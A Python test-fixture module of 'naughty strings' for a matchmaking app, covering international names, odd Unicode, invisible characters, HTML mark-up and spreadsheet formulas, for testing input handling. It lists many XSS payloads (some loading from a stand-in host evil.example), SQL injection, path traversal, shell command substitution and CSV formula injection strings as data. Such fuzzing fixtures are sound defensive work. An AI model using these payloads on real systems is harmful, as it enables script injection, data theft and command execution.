"""Texts that break programs, by what they break: names of real kinds, odd characters, mark-up, formulas, line ends.

They are our own. Where the folder `MATCHMAKER_CASES` is set, the published sets in it are used besides.
"""

import json
import os
from pathlib import Path
from typing import Any

NAMES = (
    "Ane Bak", "Åse Ørsted-Ægidius", "Jørgen Bæk", "Søren Kierkegaard", "Þórdís Kolbrún", "Ólafur Ragnar",
    "Łukasz Żółć", "Zdeněk Říha", "Ștefan Țurcanu", "Özgür Yıldız", "İbrahim Iğdır", "Nguyễn Thị Minh Khai",
    "Đặng Văn Ơ", "Mónica Peña", "João Gonçalves", "François L’Écuyer", "Zoë Brontë", "Jürgen Groß",
    "Ζωή Παπαδοπούλου", "Юлия Щёголева", "Ганна Їжак", "Ђорђе Љубић", "Նարեկ Հակոբյան", "ნინო ბერიძე",
    "דוד בן־גוריון", "محمد الأمين", "علی\u200cرضا", "ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ", "नरेंद्र", "ශ්\u200dරී ලංකා", "தமிழ்ச்செல்வி",
    "สมชาย ใจดี", "ភូមិ", "မြန်မာ", "陈伟", "李娜", "欧阳修", "張三", "王\u3000小明", "𠮷野家", "葛\U000e0100城",
    "\ue000姓", "山田　太郎",
    "カタカナ・ネーム", "김철수", "뷁", "བསྟན་འཛིན་", "ᠮᠣᠩᠭᠣᠯ\u180e", "ئۇيغۇر",
    "O'Brien", "D’Angelo", "M`Bala", "Ng", "O", "Å",
    "陈", "X Æ A-12", "Null", "None", "undefined", "NaN", "True", "Smith-Jones-van der Berg", "de la Cruz y Ramírez",
    "Jr., Martin Luther", "Dr. med. Dr. h. c. Müller", "3rd, John", "van\u00a0Dyck", "e\u0301milie",
    "Ange\u0301lique", "ﬁona", "Ⅳ. Henry", "ℬob", "Tom & Jerry", "A/S Møller", "50 % Ltd", "Bo \\ Co",
    "\"Red\" Ann", "«Éva»", "a;b,c\td", "\N{GRINNING FACE}", "👩‍🔬 Li", "❤️", "🏳️‍🌈",
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "Wolfeschlegelsteinhausenbergerdorff" * 4, "陈" * 150, "a b " * 40,
)  # fmt: skip
"""Names as people and organisations have them, some of them long, some of one letter."""

ODD = (
    "a\u030a\u0327\u0301", "Z̸̡̢̛̪̥̗a̷̮l̵̰g̶̨o̴̬", "\u0301alone", "\u05d0\u200f1\u200e2", "ﷺ﷽", "Å\u212b",
    "Ω\u2126", "①②③", "ｆｕｌｌ ｗｉｄｔｈ", "x²y₃", "½", "٣٤٥", "१२३", "１２３", "−5", "1e309", "1_000", "∞",
    "soft\u00adhyphen", "\u2800braille blank", "\u3164filler", "\u115f\u1160", "line\nend", "line\r\nend",
    "tab\there", "two\u2028lines", "two\u2029paragraphs", "trailing ", " leading", "\u00a0fixed\u00a0",
    "\u3000wide\u3000", "%s %d %n", "%(name)s", "{0} {name} {{x}}", "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "\\u0041", "&#65;&amp;", "%41%0d%0a", "../../etc/passwd", "C:\\NUL", "'; DROP TABLE profiles;--",
    "1' OR '1'='1", "\" or \"\"=\"", "_%", "*?[a-z]", "^$.|", "$(id)", "`id`", "|id", "-rf", "--help",
    "http://127.0.0.1:9/", "javascript:alert(1)", "mailto:x@y.example?bcc=z@y.example", "@everyone", "#N/A",
    "\ufffd", "\ufffc", "\U0001f1e9\U0001f1f0", "\U000f0000",
)  # fmt: skip
"""What has to come through as it is, or is refused with a message."""

UNUSABLE = (
    "NUL\0here", "bell\x07", "escape\x1b[31m", "vertical\x0btab", "form\x0cfeed", "unit\x1fsep", "delete\x7f",
    "C1\x85", "C1\x9b", "\u202eright to left", "left\u202a", "isolate\u2066d\u2069", "zero\u200bwidth",
    "joined\u2060up", "\ufeffmark", "invisible\u2063", "tags\U000e0041\U000e0042", "\ufffenone", "\uffffnone",
    "\U0001fffe", "\ufff9ruby\ufffb", "\u206a",
)  # fmt: skip
"""What nobody can see, and is therefore refused."""

MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "\" onfocus=alert(1) autofocus x=\"", "' onmouseover=alert(1) x='",
    "\" autofocus onfocus=\"alert(1)", " onfocus=alert(1) autofocus ", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example/x>",
    "<embed src=//evil.example/x.swf>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<math><mtext><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>", "<svg/onload=alert(1)>",
    "<style>*{background:url(//evil.example/x)}</style>", "<div style=background:url(//evil.example/x)>",
    "<img src=//evil.example/x>", "<img srcset=//evil.example/x>", "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)>", "<xmp><script>alert(1)</script>", "<plaintext>", "<!--", "<![CDATA[",
    "<?xml version='1.0'?>", "<x onclick=alert(1)>x", "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<img src=`x`onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "{{config}}", "${alert(1)}", "`${alert(1)}`", "');alert(1);//",
    "\\\";alert(1);//", "<div hx-get=//evil.example/x hx-trigger=load>", "<div x-data x-init=alert(1)>",
    "<div data-quality-part>x</div>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip
"""Mark-up that runs a script or loads something where a page takes it for its own."""

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://e.example\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@import", "＝1+1", "＋1",
    "－1", "＠SUM(A1)", "\u3000=1+1", "\u200f=1+1", "\"=1+1\"", "'=1+1", ";=1+1", "x;=1+1", "x\n=1+1", "=\"a\"&\"b\"",
    "=IMPORTXML(\"http://e.example\")", "%0A=1", "=ÆØÅ()", "=1,2", "\u00ad=1+1",
)  # fmt: skip
"""What a spreadsheet program would compute."""

_FOLDER = os.environ.get("MATCHMAKER_CASES", "")


def published(name: str, own: Any) -> Any:
    """Return a published set by its file in the folder `hostile`, or our `own` where there is none."""
    file = Path(_FOLDER) / "hostile" / f"{name}.json"
    return json.loads(file.read_text(encoding="utf-8")) if _FOLDER and file.is_file() else own


def naughty() -> list[str]:
    """Return all that people might type or send: our own and, where they are at hand, the published ones."""
    return list(dict.fromkeys([*NAMES, *ODD, *UNUSABLE, *MARKUP, *FORMULAS, *published("blns", ())]))


def scripts() -> list[str]:
    """Return mark-up that would run: our own and, where they are at hand, the published ones."""
    return list(dict.fromkeys([*MARKUP, *published("xss_all", ())]))
